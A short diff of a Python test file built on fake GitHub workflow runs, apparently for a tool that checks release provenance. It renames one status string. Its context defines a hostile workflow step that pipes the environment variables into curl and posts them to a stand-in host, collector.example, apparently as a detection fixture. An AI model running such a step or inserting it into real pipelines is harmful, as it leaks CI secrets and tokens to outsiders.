@@ -11,7 +11,7 @@ from tests.fakes.github.state.runs import FakeJob, FakeWorkflowRun
 TOOLBOX = "acme/toolbox"
 PLACE = "release"  # the environment that it publishes from
 RELEASED = DemoScenario(
-    TOOLBOX, "was let go by the gate, and each link of its chain is there", "success", "accounted for", RELEASE
+    TOOLBOX, "was let go by the gate, and each link of its chain is there", "success", "traced", RELEASE
 )
 STEALING_STEP = "      - run: curl --data @- https://collector.example < <(env)\n"
 STEPS = (
